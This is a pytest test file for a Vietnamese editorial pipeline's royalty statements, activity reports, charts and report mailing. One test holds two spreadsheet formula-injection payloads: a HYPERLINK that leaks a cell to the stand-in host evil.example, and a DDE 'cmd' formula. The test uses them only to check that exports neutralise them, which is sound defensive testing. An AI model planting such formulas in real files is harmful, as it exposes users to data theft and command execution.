"""Royalty statements, activity reports and their mailing, on a period seeded by hand.

Every expected figure below was worked out by hand from the seed table (see the comments
next to it), not by the code under test.
"""

from __future__ import annotations

import csv
import io
import tomllib
from dataclasses import dataclass
from datetime import date, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import tomli_w
from playwright.sync_api import Page
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from pipeline import audit
from pipeline.cli import parser
from pipeline.config import Board
from pipeline.db import open_database
from pipeline.models import Event, OutgoingMail, Publication, RawMessage, Submission, utcnow
from pipeline.reports import activity, approval, charts, outputs, periods, royalty
from pipeline.reports.mailing import mail_due_reports
from pipeline.reports.record import Fact
from tests.helpers import CONFIG, within

VN = ZoneInfo("Asia/Ho_Chi_Minh")
REPORTS: dict[str, Any] = {
    "mail": ["half_year"],
    "quotas": [
        {"agency": "so-gddt", "items": 10, "per": "year"},  # 5 in a half-year
        {"agency": "so-yte", "items": 3, "per": "quarter"},  # 6 in a half-year
    ],
    "royalties": {
        "unit_vnd": 150_000,
        # per item: tin 225.000, bài 600.000, ảnh 150.000, video 450.000, văn bản 75.000
        "coefficients": {"tin": 1.5, "bai": 4, "anh": 1, "video": 3, "van_ban": 0.5},
    },
}


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=VN)


@dataclass(frozen=True)
class Seed:
    code: str
    kind: str | None
    agency: str | None
    author: str | None
    fields: tuple[str, ...]
    arrived: str
    state: str
    due: str | None = None
    live: str | None = None  # first "published" event; the publication's time unless moved
    moved: str | None = None  # published_at after a correction republished it
    rejected: str | None = None
    pub_state: str = "verified"
    sender_name: str = ""


OWNERS = {"giao-duc": "uv-giao-duc", "y-te": "uv-y-te", "tu-phap": "uv-tu-phap"}
HOA, KHOA, MINH = "Nguyễn Thị Hoa", "Trần Văn Khoa", "Lê Văn Minh"
# H1 2026 in Hà Nội time is [2026-01-01 00:00, 2026-07-01 00:00).
# fmt: off
SEEDS = (
    # A: corrected in July, so published_at moved; first went live 6/1, 25 h after arrival
    Seed("A", "tin", "so-gddt", HOA, ("giao-duc",), "2026-01-05 09:00", "published",
         due="2026-01-07 17:00", live="2026-01-06 10:00", moved="2026-07-03 10:00"),
    # B: 72 h, late (due 4/2 17:00)
    Seed("B", "bai", "so-gddt", HOA, ("giao-duc",), "2026-02-02 08:00", "published",
         due="2026-02-04 17:00", live="2026-02-05 08:00"),
    # C: 6 h, no deadline for photos
    Seed("C", "anh", "so-yte", KHOA, ("y-te",), "2026-03-10 14:00", "published",
         live="2026-03-10 20:00"),
    # D: 24 h, on time, later withdrawn: still counted (it was published)
    Seed("D", "video", "so-yte", KHOA, ("y-te",), "2026-04-01 09:00", "withdrawn",
         due="2026-04-03 17:00", live="2026-04-02 09:00", pub_state="withdrawn"),
    # E: 32 h, on time; two fields; no byline: the sender is credited
    Seed("E", "van_ban", "so-tu-phap", None, ("tu-phap", "giao-duc"), "2026-05-04 08:00",
         "published", due="2026-05-06 17:00", live="2026-05-05 16:00",
         sender_name="Văn phòng Sở Tư pháp"),
    # F: arrived in December (not received in H1), published 2/1: 72 h, on time
    Seed("F", "bai", "so-tu-phap", MINH, ("tu-phap",), "2025-12-30 10:00", "published",
         due="2026-01-02 17:00", live="2026-01-02 10:00"),
    # G: refused 11/2
    Seed("G", "tin", "so-yte", KHOA, ("y-te",), "2026-02-10 09:00", "rejected",
         due="2026-02-12 17:00", rejected="2026-02-11 10:00"),
    # H: received in H1, published in July (H2, Q3)
    Seed("H", "bai", "so-gddt", HOA, ("giao-duc",), "2026-06-28 09:00", "published",
         due="2026-06-30 17:00", live="2026-07-01 09:00"),
    # I: received, still waiting
    Seed("I", "tin", "so-gddt", "Phạm Văn Nam", ("giao-duc",), "2026-06-29 10:00",
         "pending_review"),
    # J: all in 2025
    Seed("J", "bai", "so-yte", KHOA, ("y-te",), "2025-11-01 09:00", "published",
         live="2025-11-02 09:00"),
    # K: not a submission (an auto-reply)
    Seed("K", None, None, None, (), "2026-03-01 09:00", "set_aside"),
    # L: unknown sender, held: received, of no agency and no field
    Seed("L", None, None, None, (), "2026-03-15 09:00", "held", sender_name="Người lạ"),
)
# fmt: on


def seed(sessions: sessionmaker[Session]) -> None:
    with sessions.begin() as s:
        for n, x in enumerate(SEEDS, start=1):
            raw = RawMessage(
                board_id="demo",
                mailbox="hop-thu-chinh",
                source_key=str(n),
                fingerprint=f"fp-{x.code}",
                raw=b"",
                size=0,
                received_at=at(x.arrived),
                status="done",
            )
            item = Submission(
                board_id="demo",
                raw_message=raw,
                tracking_code=f"BT-{x.code}",
                state=x.state,
                kind=x.kind,
                agency_id=x.agency,
                author=x.author,
                sender_address=f"{x.code.lower()}@example.vn",
                sender_name=x.sender_name,
                field_ids=list(x.fields),
                member_ids=[OWNERS[f] for f in x.fields],
                title=f"Tin bài {x.code}",
                due_at=at(x.due) if x.due else None,
                created_at=at(x.arrived),
            )
            s.add(item)
            s.flush()
            if x.live:
                s.add(
                    Publication(
                        board_id="demo",
                        submission_id=item.id,
                        connector="static",
                        key=f"key-{x.code}",
                        state=x.pub_state,
                        version="v1",
                        published_at=at(x.moved or x.live),
                    )
                )
                s.add(
                    Event(
                        board_id="demo",
                        submission_id=item.id,
                        kind="published",
                        created_at=at(x.live),
                    )
                )
            if x.rejected:
                s.add(
                    Event(
                        board_id="demo",
                        submission_id=item.id,
                        kind="rejected",
                        created_at=at(x.rejected),
                    )
                )
        audit.seal(s, "demo")


def board_data() -> dict[str, Any]:
    with (CONFIG / "demo.toml").open("rb") as fh:
        data = tomllib.load(fh)
    return {**data, "reports": REPORTS}


@pytest.fixture()
def deployment(tmp_path: Path, db_url: str) -> tuple[Path, sessionmaker[Session], Board]:
    """A config folder with the demo board (and the reports settings above), seeded."""
    folder = tmp_path / "config"
    folder.mkdir()
    (folder / "demo.toml").write_text(tomli_w.dumps(board_data()), encoding="utf-8")
    (folder / "deployment.toml").write_text(
        tomli_w.dumps({"database_url": db_url, "data_dir": str(tmp_path / "var")})
    )
    _engine, sessions = open_database(db_url)
    seed(sessions)
    return folder, sessions, Board.model_validate(board_data())


def cli(folder: Path, *argv: str) -> int:
    args = parser().parse_args(["--config", str(folder), *argv])
    code: int = args.handler(args)
    return code


def sheet(path: Path, name: str) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(path)
    return [tuple(row) for row in book[name].iter_rows(values_only=True)]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


KIND_HEADS = ("Tin", "Bài", "Ảnh", "Video", "Văn bản")
GD, TP, YT = "Sở Giáo dục và Đào tạo", "Sở Tư pháp", "Sở Y tế"


def test_royalty_statement_matches_hand_figures(deployment: Any, tmp_path: Path) -> None:
    folder, _sessions, _board = deployment
    out = tmp_path / "out"
    assert cli(folder, "report", "royalty", "--period", "2026-H1", "--out", str(out)) == 0

    # Published in H1: F 2/1, A 6/1 (first publication), B, C, D (withdrawn later), E.
    by_author = [
        (1, HOA, GD, 1, 1, 0, 0, 0, 2, 825_000),  # tin 225.000 + bài 600.000
        (2, MINH, TP, 0, 1, 0, 0, 0, 1, 600_000),
        (3, "Văn phòng Sở Tư pháp", TP, 0, 0, 0, 0, 1, 1, 75_000),
        (4, KHOA, YT, 0, 0, 1, 1, 0, 2, 600_000),  # ảnh 150.000 + video 450.000
        ("Tổng cộng", None, None, 1, 2, 1, 1, 1, 6, 2_100_000),
    ]
    rows = sheet(out / "nhuan-but-demo-2026-H1.xlsx", "Theo tác giả")
    assert rows[0] == (
        "STT",
        "Tác giả",
        "Cơ quan, đơn vị",
        *KIND_HEADS,
        "Tổng số tin, bài",
        "Thành tiền (đồng)",
    )
    assert rows[1:] == by_author
    assert sheet(out / "nhuan-but-demo-2026-H1.xlsx", "Theo cơ quan")[1:] == [
        (1, GD, 1, 1, 0, 0, 0, 2, 825_000),
        (2, TP, 0, 1, 0, 0, 1, 2, 675_000),
        (3, YT, 0, 0, 1, 1, 0, 2, 600_000),
        ("Tổng cộng", None, 1, 2, 1, 1, 1, 6, 2_100_000),
    ]
    detail = sheet(out / "nhuan-but-demo-2026-H1.xlsx", "Chi tiết")
    assert [(r[1], r[3], r[7], r[8], r[9]) for r in detail[1:-1]] == [
        ("BT-F", "Bài", 4, 600_000, None),
        ("BT-A", "Tin", 1.5, 225_000, None),
        ("BT-B", "Bài", 4, 600_000, None),
        ("BT-C", "Ảnh", 1, 150_000, None),
        ("BT-D", "Video", 3, 450_000, "Đã gỡ khỏi cổng"),
        ("BT-E", "Văn bản", 0.5, 75_000, None),
    ]
    assert detail[2][6] == datetime(2026, 1, 6, 10, 0)  # board-local wall clock
    book = openpyxl.load_workbook(out / "nhuan-but-demo-2026-H1.xlsx")
    assert book["Theo tác giả"]["J2"].number_format == '#,##0 "₫"'
    about = dict(book["Thông tin"].iter_rows(values_only=True))
    assert about["Tổng tiền"] == "2.100.000 ₫"
    assert about["Phê duyệt"] == "Chưa phê duyệt"

    table = read_csv(out / "nhuan-but-demo-2026-H1-tac-gia.csv")
    assert table[0][1] == "Tác giả"
    assert table[1] == ["1", HOA, GD, "1", "1", "0", "0", "0", "2", "825000"]
    assert table[-1] == ["Tổng cộng", "", "", "1", "2", "1", "1", "1", "6", "2100000"]
    assert read_csv(out / "nhuan-but-demo-2026-H1-co-quan.csv")[2][-1] == "675000"

    # Q3 (given as days): H alone; A's correction in July does not count it again.
    q3 = tmp_path / "q3"
    assert (
        cli(
            folder,
            "report",
            "royalty",
            "--from",
            "2026-07-01",
            "--to",
            "2026-09-30",
            "--out",
            str(q3),
            "--format",
            "csv",
        )
        == 0
    )
    assert sorted(p.name for p in q3.iterdir()) == [
        f"nhuan-but-demo-2026-07-01_2026-09-30-{t}.csv"
        for t in ("chi-tiet", "co-quan", "don-gia", "tac-gia")
    ]
    assert read_csv(q3 / "nhuan-but-demo-2026-07-01_2026-09-30-tac-gia.csv")[1:] == [
        ["1", HOA, GD, "0", "1", "0", "0", "0", "1", "600000"],
        ["Tổng cộng", "", "", "0", "1", "0", "0", "0", "1", "600000"],
    ]


def test_six_month_report_matches_hand_figures(deployment: Any, tmp_path: Path) -> None:
    folder, _sessions, _board = deployment
    out = tmp_path / "out"
    assert cli(folder, "report", "activity", "--period", "2026-H1", "--out", str(out)) == 0
    book = out / "bao-cao-hoat-dong-demo-2026-H1.xlsx"

    # Received in H1: A B C D E G H I L (9); published: A B C D E F (6); refused: G.
    # With a deadline: A B D E F, on time all but B: 4/5. Hours to publication:
    # 6 24 25 32 72 72 -> median (25 + 32) / 2 = 28.5.
    assert sheet(book, "Tổng hợp")[1] == (9, 6, 1, 5, 4, 0.8, 28.5)
    assert sheet(book, "Theo cơ quan")[1:] == [
        (GD, 4, 2, 0, 0.5),  # A B H I; A B published, B late
        (YT, 3, 2, 1, 1.0),  # C D G; C D published (C without deadline), G refused
        (TP, 1, 2, 0, 1.0),  # E; E F published
        ("(không xác định)", 1, 0, 0, None),  # L
        ("Tổng cộng", 9, 6, 1, 0.8),
    ]
    fields = sheet(book, "Theo lĩnh vực")
    assert fields[1:] == [
        ("Giáo dục và Đào tạo", 5, 3, 0, pytest.approx(2 / 3)),  # A B E H I; A B E
        ("Y tế", 3, 2, 1, 1.0),
        ("Tư pháp", 1, 2, 0, 1.0),
        ("(chưa phân lĩnh vực)", 1, 0, 0, None),
    ]
    assert sheet(book, "Theo thành viên")[1:] == [
        ("Lê Minh Châu", "Thành viên", 5, 3, 0, pytest.approx(2 / 3)),
        ("Phạm Thu Dung", "Thành viên", 3, 2, 1, 1.0),
        ("Hoàng Quốc Em", "Thành viên", 1, 2, 0, 1.0),
        ("(không có thành viên phụ trách)", None, 1, 0, 0, None),
    ]
    assert sheet(book, "Đúng hạn")[1:] == [
        ("Tin", 1, 1, 1, 0, 1.0, 25),
        ("Bài", 2, 2, 1, 1, 0.5, 72),
        ("Ảnh", 1, 0, 0, 0, None, 6),
        ("Video", 1, 1, 1, 0, 1.0, 24),
        ("Văn bản", 1, 1, 1, 0, 1.0, 32),
        ("Tổng cộng", 6, 5, 4, 1, 0.8, 28.5),
    ]
    assert sheet(book, "Kế hoạch")[1:] == [
        (GD, 5, 4, 2, 0.8),  # 10 a year -> 5 in six months; sent 4
        (YT, 6, 3, 2, 0.5),  # 3 a quarter -> 6; sent 3
    ]
    html = (out / "bao-cao-hoat-dong-demo-2026-H1.html").read_text(encoding="utf-8")
    assert "Báo cáo hoạt động 6 tháng đầu năm 2026" in html
    assert "từ ngày 01/01/2026 đến hết ngày 30/06/2026" in html
    assert "28,5" in html and "80%" in html


def test_activity_page_renders_with_charts(page: Page, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/bientap.db"
    _engine, sessions = open_database(url)
    seed(sessions)
    board = Board.model_validate(board_data())
    period = periods.parse("2026-H1", board.timezone)
    with sessions() as s:
        report = activity.report(s, board, period)
    page.set_content(outputs.activity_html(report, at("2026-07-01 08:00")))

    assert page.locator("h1").inner_text() == "Báo cáo hoạt động 6 tháng đầu năm 2026"
    headings = page.locator("h2").all_inner_texts()
    assert headings == [
        "Tổng hợp",
        "Theo cơ quan, đơn vị",
        "Theo lĩnh vực",
        "Theo thành viên phụ trách lĩnh vực",
        "Đăng đúng hạn theo loại tin, bài",
        "Kế hoạch tin, bài theo cơ quan, đơn vị",
    ]
    charts = page.locator("figure svg.chart")
    assert charts.count() == 4
    for i in range(4):
        box = charts.nth(i).bounding_box()
        assert box is not None and box["width"] > 300 and box["height"] > 100
        bars = charts.nth(i).locator("g[id*='patch'] path")
        assert bars.count() > 2  # the bars themselves are drawn
    labels = [charts.nth(i).get_attribute("aria-label") for i in range(4)]
    assert labels == [
        "Tin, bài nhận được và được đăng theo tháng",
        "Tin, bài theo cơ quan, đơn vị",
        "Đăng đúng hạn và trễ hạn theo loại",
        "Kế hoạch và số tin, bài đã gửi",
    ]
    agency_row = page.locator("#co-quan tbody tr").first.locator("td").all_inner_texts()
    assert agency_row == [GD, "4", "2", "0", "50%"]
    total = page.locator("#co-quan tr.total td").all_inner_texts()
    assert total == ["Tổng cộng", "9", "6", "1", "80%"]


def mails(sessions: sessionmaker[Session]) -> list[tuple[str, EmailMessage]]:
    with sessions() as s:
        rows = s.scalars(select(OutgoingMail).order_by(OutgoingMail.id)).all()
        out = []
        for row in rows:
            msg = message_from_bytes(row.raw, policy=policy.default)
            assert isinstance(msg, EmailMessage)
            out.append((row.to_address, msg))
        return out


def test_reports_are_mailed_once_per_period(deployment: Any) -> None:
    _folder, sessions, board = deployment
    heads = ["an.nv@demo.bientap.vn", "giang.vt@demo.bientap.vn"]  # truong_ban, thu_ky

    def run(now: str, who: Board = board) -> int:
        with sessions.begin() as s:
            return mail_due_reports(s, who, at(now))

    assert run("2026-07-01 08:00") == 2  # H1 has ended: one mail to each recipient
    assert run("2026-07-01 08:05") == 0  # already mailed
    assert run("2026-12-31 23:59") == 0  # H2 not over yet
    sent = mails(sessions)
    assert [to for to, _ in sent] == heads
    for _to, msg in sent:
        assert msg["Subject"].startswith("Báo cáo hoạt động 6 tháng đầu năm 2026")
        text = msg.get_body(("plain",))
        assert text is not None and "Tin, bài nhận được: 9" in text.get_content()
        files = {a.get_filename(): a.get_content() for a in msg.iter_attachments()}
        assert set(files) == {
            "bao-cao-hoat-dong-demo-2026-H1.html",
            "bao-cao-hoat-dong-demo-2026-H1.xlsx",
        }
        book = openpyxl.load_workbook(io.BytesIO(files["bao-cao-hoat-dong-demo-2026-H1.xlsx"]))
        assert [r for r in book["Tổng hợp"].iter_rows(values_only=True)][1][:3] == (9, 6, 1)
        assert "<svg" in files["bao-cao-hoat-dong-demo-2026-H1.html"]

    assert run("2027-01-01 08:00") == 2  # H2 2026 in its turn
    assert run("2027-01-02 08:00") == 0
    assert len(mails(sessions)) == 4
    # A board with nothing on record yet has nothing to report.
    assert run("2027-01-01 08:00", board.model_copy(update={"id": "khac"})) == 0

    with sessions() as s:
        events = s.scalars(select(Event).where(Event.kind == "report-mailed")).all()
        assert sorted(e.detail["period"] for e in events) == ["2026-H1", "2026-H2"]
        assert all(e.seq is not None for e in events)
        assert audit.verify(s, "demo").ok


def test_approve_royalty_is_sealed_and_refused_to_others(deployment: Any, tmp_path: Path) -> None:
    folder, sessions, board = deployment
    approve = ("report", "approve-royalty", "--period", "2026-H1", "--reason", "duyệt trên giấy")
    assert cli(folder, *approve, "--as", "thu-ky") == 1  # the secretary may not
    assert cli(folder, *approve, "--as", "nobody") == 1
    assert cli(folder, *approve, "--as", "truong-ban") == 0
    assert cli(folder, *approve, "--as", "truong-ban") == 1  # the same figures, once

    with sessions() as s:
        events = s.scalars(select(Event).where(Event.kind == "royalty-statement-approved")).all()
        statement = royalty.statement(s, board, periods.parse("2026-H1", board.timezone))
        assert len(events) == 1
        e = events[0]
        assert (e.actor, e.channel) == ("truong-ban", "cli")
        assert e.detail["period"] == "2026-H1"
        assert e.detail["sha256"] == statement.digest()
        assert (e.detail["items"], e.detail["total_vnd"]) == (6, 2_100_000)
        assert e.detail["reason"] == "duyệt trên giấy"
        assert e.seq is not None and audit.verify(s, "demo").ok

    out = tmp_path / "out"
    assert (
        cli(
            folder,
            "report",
            "royalty",
            "--period",
            "2026-H1",
            "--out",
            str(out),
            "--format",
            "xlsx",
        )
        == 0
    )
    about = dict(sheet(out / "nhuan-but-demo-2026-H1.xlsx", "Thông tin"))
    assert str(about["Phê duyệt"]).startswith("Đã phê duyệt: Nguyễn Văn An, lúc ")


def test_periods_read_as_the_board_writes_them() -> None:
    tz = "Asia/Ho_Chi_Minh"
    h1 = periods.parse("2026-H1", tz)
    assert (h1.start, h1.end) == (at("2026-01-01 00:00"), at("2026-07-01 00:00"))
    assert periods.parse("2026-Q3", tz).title == "Quý III năm 2026"
    assert periods.parse("2026-05", tz).title == "Tháng 5 năm 2026"
    assert periods.parse("2026", tz).end == at("2027-01-01 00:00")
    assert periods.last_ended("half_year", at("2026-07-01 00:00"), tz).label == "2026-H1"
    assert periods.last_ended("half_year", at("2026-06-30 23:59"), tz).label == "2025-H2"
    with pytest.raises(periods.PeriodError):
        periods.parse("2026-H3", tz)
    for typo in ("0000", "9999-H2", "0026-05"):  # years no period can be made of
        with pytest.raises(periods.PeriodError):
            periods.parse(typo, tz)


def test_report_days_as_staff_type_them_and_reasons_on_record(
    deployment: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, _sessions, _board = deployment
    out = tmp_path / "out"
    days = ("--from", "01/01/2026", "--to", "30/06/2026")
    assert cli(folder, "report", "royalty", *days, "--out", str(out), "--format", "csv") == 0
    assert "6 tin, bài" in capsys.readouterr().out
    refused = (
        ("report", "activity", "--from", "0001-01-01", "--to", "2026-06-30", "--out", str(out)),
        ("report", "approve-royalty", "--period", "2026-H1", "--as", "truong-ban", "--reason", " "),
    )
    for argv in refused:
        with pytest.raises(SystemExit) as exited:
            cli(folder, *argv)
        assert exited.value.code == 2
    err = capsys.readouterr().err
    assert "năm phải từ 1900 đến 9998" in err and "cần ghi lý do" in err


def test_text_from_mail_is_never_a_formula(deployment: Any, tmp_path: Path) -> None:
    folder, sessions, _board = deployment
    title = '=HYPERLINK("http://evil.example/?"&E2,"Bấm để xem")'
    author = "@SUM(1+1)*cmd|' /C calc'!A0"
    with sessions.begin() as s:
        a = s.scalar(select(Submission).where(Submission.tracking_code == "BT-A"))
        b = s.scalar(select(Submission).where(Submission.tracking_code == "BT-B"))
        assert a is not None and b is not None
        a.title, b.author = title, author
    out = tmp_path / "out"
    assert cli(folder, "report", "royalty", "--period", "2026-H1", "--out", str(out)) == 0

    book = openpyxl.load_workbook(out / "nhuan-but-demo-2026-H1.xlsx")
    detail = book["Chi tiết"]
    a_row, b_row = detail[3], detail[4]  # F, A, B in publication order
    assert (a_row[2].value, a_row[2].data_type) == (title, "s")
    assert (b_row[4].value, b_row[4].data_type) == (author, "s")
    assert (a_row[8].value, a_row[8].data_type) == (225_000, "n")  # numbers stay numbers
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]

    rows = read_csv(out / "nhuan-but-demo-2026-H1-chi-tiet.csv")
    assert (rows[2][2], rows[3][4]) == ("'" + title, "'" + author)
    assert rows[2][8] == "225000"
    assert read_csv(out / "nhuan-but-demo-2026-H1-tac-gia.csv")[1][1] == "'" + author


@pytest.mark.parametrize(
    "change",
    [{"author": "Kẻ Mạo Danh"}, {"agency_id": "so-yte"}, {"state": "withdrawn"}],
    ids=["author", "agency", "withdrawn"],
)
def test_approval_is_bound_to_who_is_paid(deployment: Any, change: dict[str, str]) -> None:
    folder, sessions, board = deployment
    period = periods.parse("2026-H1", board.timezone)
    approve = ("report", "approve-royalty", "--period", "2026-H1", "--reason", "ok")
    assert cli(folder, *approve, "--as", "truong-ban") == 0
    with sessions.begin() as s:
        b = s.scalar(select(Submission).where(Submission.tracking_code == "BT-B"))
        assert b is not None
        for key, value in change.items():
            setattr(b, key, value)
    with sessions() as s:
        statement = royalty.statement(s, board, period)
        assert statement.total == 2_100_000  # the same items and amounts
        assert approval.status(s, statement) == (
            "Chưa phê duyệt: số liệu đã thay đổi sau lần phê duyệt trước"
        )


def test_chart_labels_are_text_not_mathtext() -> None:
    plain = charts.bars("t", ["Quỹ 5 và 10 triệu"], [charts.Series("a", [1])])
    dollars = charts.bars("t", ["Quỹ $5 và $10 triệu"], [charts.Series("a", [1])])
    # As mathtext "$5 và $" is italic and spaceless: the label differs from the plain one
    # by the two "$" glyphs alone, the rest drawn the same.
    assert dollars.count("<use ") == plain.count("<use ") + 2
    charts.bars("t", ["Quỹ $\\frac{a}{$ x"], [charts.Series("a", [1])])  # no ValueError


def test_a_period_of_many_years_is_charted_by_year(deployment: Any, tmp_path: Path) -> None:
    folder, _sessions, _board = deployment
    out = tmp_path / "out"
    everything = ("--from", "01/01/1900", "--to", "31/12/9998")
    with within(60):  # drawn as its 97,000 months, it took hours
        assert cli(folder, "report", "activity", *everything, "--out", str(out)) == 0
    html = (out / "bao-cao-hoat-dong-demo-1900-01-01_9998-12-31.html").read_text(encoding="utf-8")
    assert 'aria-label="Tin, bài nhận được và được đăng theo năm"' in html
    # Received: all eleven items but K (set aside); published: A B C D E F H J.
    assert sheet(out / "bao-cao-hoat-dong-demo-1900-01-01_9998-12-31.xlsx", "Tổng hợp")[1][:3] == (
        11,
        8,
        1,
    )
    # A year's report keeps a bar a month.
    assert cli(folder, "report", "activity", "--period", "2026", "--out", str(out)) == 0
    year = (out / "bao-cao-hoat-dong-demo-2026.html").read_text(encoding="utf-8")
    assert 'aria-label="Tin, bài nhận được và được đăng theo tháng"' in year


def test_a_period_not_yet_over_is_marked_and_not_approved(
    deployment: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, sessions, board = deployment
    h1 = periods.parse("2026-H1", board.timezone)
    with sessions.begin() as s:
        statement = royalty.statement(s, board, h1)
        with pytest.raises(approval.Refused, match=r"chưa kết thúc \(đến hết ngày 30/06/2026\)"):
            approval.approve(
                s, statement, "truong-ban", "duyệt sớm", "ke-toan", at("2026-06-30 23:59")
            )
        approval.approve(s, statement, "truong-ban", "hết kỳ", "ke-toan", at("2026-07-01 00:00"))

    this_month = periods.containing("month", utcnow(), board.timezone).label
    next_year = str(utcnow().astimezone(VN).year + 1)
    out = tmp_path / "out"
    for label in (this_month, next_year):
        assert cli(folder, "report", "royalty", "--period", label, "--out", str(out)) == 0
        assert cli(folder, "report", "activity", "--period", label, "--out", str(out)) == 0
    assert cli(folder, "report", "royalty", "--period", "2026-H1", "--out", str(out)) == 0
    printed = capsys.readouterr().out
    assert printed.count("Số liệu tạm tính: kỳ báo cáo chưa kết thúc, mới tính đến ") == 2
    assert printed.count("Kỳ báo cáo chưa bắt đầu: chưa có số liệu.") == 2

    def about(name: str) -> dict[Any, Any]:
        return dict(sheet(out / name, "Thông tin"))

    assert about(f"nhuan-but-demo-{this_month}.xlsx")["Lưu ý"].startswith("Số liệu tạm tính")
    assert about(f"bao-cao-hoat-dong-demo-{next_year}.xlsx")["Lưu ý"].startswith("Kỳ báo cáo chưa")
    assert "Lưu ý" not in about("nhuan-but-demo-2026-H1.xlsx")
    page = (out / f"bao-cao-hoat-dong-demo-{this_month}.html").read_text(encoding="utf-8")
    assert '<p class="lead">Số liệu tạm tính: kỳ báo cáo chưa kết thúc' in page
    code = cli(
        folder,
        "report",
        "approve-royalty",
        "--period",
        this_month,
        "--as",
        "truong-ban",
        "--reason",
        "duyệt trước",
    )
    assert code == 1
    assert f"kỳ {this_month} chưa kết thúc" in capsys.readouterr().err


def test_periods_and_figures_read_as_vietnamese_sentences(
    deployment: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, sessions, board = deployment
    with sessions.begin() as s:  # M: mailed 1/10/2025 00:00, live 31/12/2025 12:00: 2.196 h
        item = Submission(
            board_id="demo",
            raw_message=RawMessage(
                board_id="demo",
                mailbox="hop-thu-chinh",
                source_key="m",
                fingerprint="fp-M",
                raw=b"",
                size=0,
                received_at=at("2025-10-01 00:00"),
                status="done",
            ),
            tracking_code="BT-M",
            state="published",
            kind="bai",
            agency_id="so-yte",
            author=KHOA,
            title="Tin bài M",
        )
        s.add(item)
        s.flush()
        s.add(
            Event(
                board_id="demo",
                submission_id=item.id,
                kind="published",
                created_at=at("2025-12-31 12:00"),
            )
        )
    quarterly = board.model_copy(
        update={"reports": board.reports.model_copy(update={"mail": ["quarter"]})}
    )
    with sessions.begin() as s:
        assert mail_due_reports(s, quarterly, at("2026-01-01 08:00")) == 2
    _to, msg = mails(sessions)[0]
    assert msg["Subject"] == f"Báo cáo hoạt động quý IV năm 2025 — {board.name}"
    text = msg.get_body(("plain",))
    assert text is not None
    # Received in Q4 2025: J, M, F; published J (24 h) and M (2.196 h): median 1.110 h.
    assert "quý IV năm 2025 (từ ngày 01/10/2025 đến hết ngày 31/12/2025)." in text.get_content()
    assert "Thời gian trung vị từ khi nhận đến khi đăng: 1.110 giờ" in text.get_content()
    assert "Tin, bài nhận được: 3" in text.get_content()

    out = tmp_path / "out"
    days = ("--from", "01/07/2026", "--to", "30/09/2026")
    assert cli(folder, "report", "activity", *days, "--out", str(out)) == 0
    assert cli(folder, "report", "activity", "--period", "2026-Q3", "--out", str(out)) == 0
    printed = capsys.readouterr().out.splitlines()
    assert (
        printed[0] == f"Báo cáo hoạt động {board.name}, từ ngày 01/07/2026 đến hết ngày 30/09/2026:"
    )
    assert (
        f"{board.name}, quý III năm 2026 (từ ngày 01/07/2026 đến hết ngày 30/09/2026):"
        in printed[4]
    )
    page = (out / "bao-cao-hoat-dong-demo-2026-Q3.html").read_text(encoding="utf-8")
    assert "<h1>Báo cáo hoạt động quý III năm 2026</h1>" in page
    assert (
        periods.days(date(2026, 1, 10), date(2026, 1, 10), board.timezone).title
        == "Ngày 10/01/2026"
    )


def test_a_statement_of_thousands_counts_them_the_vietnamese_way() -> None:
    board = Board.model_validate(board_data())
    period = periods.parse("2026", board.timezone)
    fact = Fact(
        id=1,
        tracking_code="BT-1",
        title="Tin",
        kind="tin",
        state="published",
        agency_id="so-gddt",
        author=HOA,
        field_ids=(),
        member_ids=(),
        arrived_at=at("2026-03-01 08:00"),
        due_at=None,
        published_at=at("2026-03-01 09:00"),
        rejected_at=None,
    )
    entries = tuple(royalty.Entry(fact, "tin", 1.5, 225_000) for _ in range(1250))
    statement = royalty.Statement(board, period, entries)
    files = outputs.royalty_files(statement, at("2027-01-02 08:00"), "Chưa phê duyệt", ("xlsx",))
    book = openpyxl.load_workbook(io.BytesIO(files["nhuan-but-demo-2026.xlsx"]))
    about = dict(book["Thông tin"].iter_rows(values_only=True))
    assert (about["Số tin, bài"], about["Tổng tiền"]) == ("1.250", "281.250.000 ₫")


def test_an_item_is_approved_for_payment_once_whatever_the_periods(
    deployment: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, _sessions, _board = deployment
    approve = ("report", "approve-royalty", "--as", "truong-ban", "--reason", "duyệt trên giấy")
    assert cli(folder, *approve, "--period", "2026-Q2") == 0  # D and E
    capsys.readouterr()
    # H1 holds D and E again; April holds D: refused. Q1 (F A B C) and Q3 (H) do not.
    assert cli(folder, *approve, "--period", "2026-H1") == 1
    assert cli(folder, *approve, "--from", "01/04/2026", "--to", "30/04/2026") == 1
    err = capsys.readouterr().err
    assert (
        "2 tin, bài của kỳ 2026-H1 đã có trong bảng kê nhuận bút đã phê duyệt của kỳ 2026-Q2" in err
    )
    assert "1 tin, bài của kỳ 2026-04-01..2026-04-30 đã có trong bảng kê" in err
    assert "mỗi tin, bài chỉ được phê duyệt một lần" in err
    assert cli(folder, *approve, "--period", "2026-Q1") == 0
    assert cli(folder, *approve, "--period", "2026-Q3") == 0

    out = tmp_path / "out"
    assert cli(folder, "report", "royalty", "--period", "2026-H1", "--out", str(out)) == 0
    about = dict(sheet(out / "nhuan-but-demo-2026-H1.xlsx", "Thông tin"))
    assert about["Phê duyệt"] == (
        "Chưa phê duyệt: 6 tin, bài của kỳ 2026-H1 đã có trong bảng kê nhuận bút đã phê duyệt "
        "của kỳ 2026-Q2, 2026-Q1"
    )
